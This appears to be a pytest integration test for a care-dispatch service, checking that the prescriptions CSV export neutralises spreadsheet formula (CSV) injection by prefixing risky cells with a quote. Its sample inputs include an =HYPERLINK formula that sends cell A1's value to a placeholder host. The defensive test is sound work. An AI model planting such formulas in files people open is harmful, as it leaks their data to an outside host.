"""The statistics CSV opened in a spreadsheet runs no formula typed into a case (OWASP « CSV
injection »): a cell starting with =, +, -, @, a tab or a carriage return is prefixed with « ' »,
so the spreadsheet shows it as text; the other cells are untouched."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import pytest

from tests.support.dispatch import Desk, place, prescription
from tests.support.live import LiveServer

FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquer")',
    "+33612345678",
    "-2+3",
    "@SUM(1+1)",
    "\tPansement",
    "\rPansement",
]


@pytest.fixture(scope="module")
def desk(server: LiveServer) -> Iterator[Desk]:
    desk = Desk.open(server)
    yield desk
    desk.close()


def test_formulas_typed_in_a_case_are_neutralised_in_the_export(desk: Desk) -> None:
    ours = desk.network()
    _, operator = desk.staff("operator", [ours])
    _, supervisor = desk.staff("supervisor", [ours])
    patient = desk.patient(*place())
    start = desk.now() - timedelta(seconds=1)
    lines = [prescription(care_type=text, network_id=ours) for text in FORMULAS]
    lines.append(prescription(care_type="Pansement = soins", network_id=ours))
    sent = operator.post("/cases", json=desk.case_body(patient["id"], *lines))
    assert sent.status_code == 201, sent.text
    period = {"since": start.isoformat(), "until": (desk.now() + timedelta(seconds=5)).isoformat()}
    export = supervisor.get("/stats/prescriptions.csv", params=period)
    assert export.status_code == 200, export.text
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"), newline=""), delimiter=";"))
    care_types = sorted(row[5] for row in rows[1:])
    stored = sorted(line["care_type"] for line in sent.json()["prescriptions"])
    assert care_types == sorted(f"'{text}" if text[0] in "=+-@\t\r" else text for text in stored)
    assert "Pansement = soins" in care_types  # an = inside a cell is no formula: untouched
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
